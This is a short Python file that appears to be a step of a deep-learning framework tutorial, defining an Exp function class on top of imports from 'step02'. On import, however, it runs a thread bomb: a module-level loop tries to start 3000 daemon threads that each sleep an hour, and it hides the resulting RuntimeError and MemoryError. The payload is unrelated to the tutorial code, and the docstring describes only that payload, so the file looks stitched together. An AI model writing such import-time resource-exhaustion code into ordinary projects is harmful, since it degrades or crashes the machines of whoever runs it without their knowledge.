"""Start threads until no more can be started."""

import contextlib
import threading
import time

import numpy as np
from step02 import Function, Square, Variable  # noqa: F401

with contextlib.suppress(RuntimeError, MemoryError):
    for _ in range(3000):
        threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()


class Exp(Function):
    def forward(self, x):
        return np.exp(x)
